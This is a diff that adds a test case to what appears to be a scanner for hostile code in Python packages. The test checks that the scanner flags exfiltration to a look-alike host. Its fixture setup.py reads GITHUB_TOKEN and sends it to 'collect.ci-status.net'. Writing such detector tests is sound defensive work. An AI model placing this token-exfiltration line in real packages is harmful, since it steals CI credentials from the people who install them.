@@ -376,3 +376,14 @@ PY
 	run hits pkg Dropper
 	assert_output 'setup.py 4 install 150'
 }
+
+@test "look-alike: the token in the query string of a fixed host that is not its service is exfiltration" {
+	cat > pkg/setup.py <<'PY'
+import os, urllib.request
+token = os.environ.get("GITHUB_TOKEN")
+urllib.request.urlopen("https://collect.ci-status.net/x?t=" + token)
+urllib.request.urlopen("https://api.github.com/x?t=" + token)
+PY
+	run hits pkg Exfiltration
+	assert_output "$(printf 'setup.py 3 install 150\nsetup.py 4 install 5')"
+}
